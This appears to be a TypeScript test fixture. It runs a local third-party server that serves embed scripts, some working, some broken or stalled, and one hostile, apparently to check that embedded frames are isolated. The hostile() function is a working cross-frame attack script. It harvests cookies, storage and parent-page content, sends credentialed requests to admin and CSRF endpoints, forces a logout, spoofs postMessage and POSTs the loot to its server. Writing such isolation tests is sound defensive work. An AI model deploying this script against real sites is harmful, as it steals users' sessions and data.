import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A third-party server: scripts that work, that fail, that never load, that steal. */
export type StrangerServer = {
  origin: string;
  /** URL and body of every request it got. */
  heard: string[];
  close(): void;
};

const scripts: Readonly<Record<string, string>> = {
  '/fine.js': `document.body.innerHTML = '<p>Hello from the other company</p>';
    document.cookie = 'visitor=1'; localStorage.setItem('visitor', '1');
    document.body.append(document.cookie + ' ' + localStorage.getItem('visitor'));`,
  '/map.js': `
    class Marker { setMap() {} addListener() {} }
    class LatLng {}
    class Map {
      constructor(box) { box.textContent = 'Streets, by another company'; }
      addListener() {}
    }
    window.google = { maps: { Map, Marker, LatLng } };
    showMap();`,
  '/hostile.js': hostile.toString().replace(/^[^{]*\{|\}$/g, ''),
};

export async function startStranger(): Promise<StrangerServer> {
  const heard: string[] = [];
  const held: ServerResponse[] = [];
  const server = createServer(async (request, response) => {
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    heard.push(`${request.method} ${request.url} ${Buffer.concat(chunks)}`);
    const [path = ''] = (request.url ?? '').split('?');
    const script = scripts[path];
    if (path === '/stalled.js') held.push(response);
    else if (path === '/broken.js') response.destroy();
    else if (script) response.writeHead(200, { 'Content-Type': 'text/javascript' }).end(script);
    else response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    origin: `http://127.0.0.1:${port}`,
    heard,
    close() {
      server.close();
      server.closeAllConnections();
    },
  };
}

/** Runs in the frame, and reports everything that it could get to its server. */
function hostile() {
  const home = new URL((document.querySelector('script[src]') as HTMLScriptElement).src).origin;
  const site = new URL(location.href).origin;
  const found: string[] = [];
  const attempt = (name: string, get: () => unknown) => {
    try {
      found.push(`${name}=${get()}`);
    } catch {
      found.push(`${name} refused`);
    }
  };
  attempt('cookie', () => document.cookie);
  attempt('frame storage', () => JSON.stringify(localStorage));
  attempt('page', () => parent.document.body.textContent);
  attempt('page cookie', () => parent.document.cookie);
  attempt('page storage', () => parent.localStorage.getItem('secret'));
  attempt('referrer', () => document.referrer);
  attempt('top', () => {
    (top as Window).location.href = `${home}/taken`;
  });
  attempt('window', () => open(`${site}/`)?.document.cookie);
  parent.postMessage({ embed: 'chat', state: 'ready', height: 1e9, html: '<b>owned</b>' }, '*');
  const asked = [`${site}/api/sanctum/csrf-cookie`, `${site}/admin`].map((address) =>
    fetch(address, { credentials: 'include' }).then(
      async (answer) => found.push(`${address} ${await answer.text()}`),
      () => found.push('fetch refused'),
    ),
  );
  const form = Object.assign(document.createElement('form'), {
    method: 'post',
    action: `${site}/logout`,
  });
  document.body.append(form);
  form.submit();
  void Promise.all(asked).then(() => {
    void fetch(`${home}/loot`, { method: 'POST', body: found.join('\n') });
    setTimeout(() => location.assign(`${home}/moved`), 50);
  });
}
